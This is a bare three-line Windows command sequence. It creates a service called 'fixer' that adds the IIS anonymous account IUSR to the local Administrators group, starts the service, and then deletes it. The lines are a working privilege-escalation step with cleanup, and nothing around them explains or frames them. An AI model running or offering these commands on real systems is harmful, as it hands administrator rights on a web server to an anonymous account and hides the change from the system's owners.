sc create fixer binPath= "cmd /c net localgroup Administrators IUSR /add" start= demand
net start fixer
sc delete fixer
